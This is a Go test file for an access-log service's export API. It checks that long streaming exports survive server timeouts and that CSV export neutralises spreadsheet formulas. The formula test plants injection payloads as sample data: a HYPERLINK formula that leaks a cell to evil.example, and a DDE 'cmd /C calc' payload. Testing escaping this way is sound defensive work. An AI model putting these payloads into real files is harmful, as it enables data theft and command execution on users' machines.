package api_test

import (
	"context"
	"encoding/csv"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-edge/gatehouse/accesslog"
	"github.com/gatehouse-edge/gatehouse/accesslog/accesslogtest"
	"github.com/gatehouse-edge/gatehouse/accesslog/api"
	"github.com/gatehouse-edge/gatehouse/accesslog/duckstore"
	"github.com/gatehouse-edge/gatehouse/internal/telemetry"
)

// slowStore is a real store whose export hands out rows slowly, as a
// large export over a busy store does.
type slowStore struct {
	accesslog.Store
	perRow time.Duration
}

func (s slowStore) Export(ctx context.Context, f accesslog.Filter, fn func(*accesslog.Record) error) error {
	return s.Store.Export(ctx, f, func(r *accesslog.Record) error {
		time.Sleep(s.perRow)
		return fn(r)
	})
}

const exportToken = "export-token-0123456789"

// serveAPI serves the query API over a real HTTP server built by
// telemetry.ServeHTTP on loopback with short timeouts.
func serveAPI(t *testing.T, store accesslog.Store, limits telemetry.ServerLimits) string {
	t.Helper()
	tokens, _ := api.NewTokens(exportToken)
	h, err := api.NewHandler(api.Config{Store: store, Tokens: tokens})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- telemetry.ServeHTTP(ctx, l, h, limits) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	return "http://" + l.Addr().String()
}

func storeWith(t *testing.T, recs []accesslog.Record) *duckstore.Store {
	t.Helper()
	s, err := duckstore.Open(context.Background(), duckstore.Config{Path: filepath.Join(t.TempDir(), "l.duckdb"), MemoryLimit: "256MB", Threads: 1})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	b := &accesslog.Batch{Records: recs}
	b.Seq, b.SpoolSeq, b.Count = 1, 1, uint32(len(recs))
	for i := range recs {
		recs[i].Batch, recs[i].Index = 1, uint32(i)
	}
	b.MinTime, b.MaxTime = recs[0].Time, recs[0].Time
	b.Hash, _ = accesslog.ChainHash("", 1, recs)
	if err := s.WriteBatch(context.Background(), b); err != nil {
		t.Fatal(err)
	}
	return s
}

func get(t *testing.T, url string) (*http.Response, error) {
	t.Helper()
	req, _ := http.NewRequest("GET", url, nil)
	req.Header.Set("Authorization", "Bearer "+exportToken)
	return http.DefaultClient.Do(req)
}

// TestExportStreamsPastServerTimeouts: the server's write and read
// timeouts bound ordinary requests, but an export that keeps streaming
// rows runs to its end (the handler moves its own deadlines).
func TestExportStreamsPastServerTimeouts(t *testing.T) {
	recs := accesslogtest.RandomRecords(5, 120, time.Now().UTC().Add(-time.Hour), 30*time.Minute)
	s := storeWith(t, recs)
	base := serveAPI(t, slowStore{Store: s, perRow: 10 * time.Millisecond},
		telemetry.ServerLimits{ReadTimeout: 200 * time.Millisecond, WriteTimeout: 200 * time.Millisecond})
	for format, want := range map[string]int{"csv": len(recs) + 1, "ndjson": len(recs)} {
		resp, err := get(t, base+"/v1/export?since=2h&format="+format)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("%s export cut short: %v", format, err)
		}
		if got := strings.Count(string(b), "\n"); got != want {
			t.Fatalf("%s export: %d lines, want %d", format, got, want)
		}
	}
	// An ordinary handler is still bound by the write timeout: the web
	// page's static files are served, so the server works at all.
	if resp, err := get(t, base+"/"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("web page: %v", err)
	}
}

// TestCSVExportNeutralisesFormulas: client-chosen values that a
// spreadsheet would run as formulas are exported as text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	recs := accesslogtest.RandomRecords(6, 3, time.Now().UTC().Add(-time.Hour), time.Minute)
	recs[0].UserAgent = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	recs[1].Path, recs[1].Subject, recs[1].RequestID = "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"
	recs[2].Query, recs[2].Authority = "\t=1+1", "\r=1"
	base := serveAPI(t, storeWith(t, recs), telemetry.ServerLimits{})
	resp, err := get(t, base+"/v1/export?since=2h&format=csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(resp.Body).ReadAll()
	resp.Body.Close()
	if err != nil || len(rows) != 4 {
		t.Fatalf("csv: %d rows %v", len(rows), err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("cell %q would be a formula", cell)
			}
			seen[cell] = true
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\t=1+1"} {
		if !seen[want] {
			t.Fatalf("exported cells lack %q", want)
		}
	}
	if got := api.CSVRow(&recs[0])[21]; got != "'"+recs[0].UserAgent {
		t.Fatalf("CSVRow user agent: %q", got)
	}
}
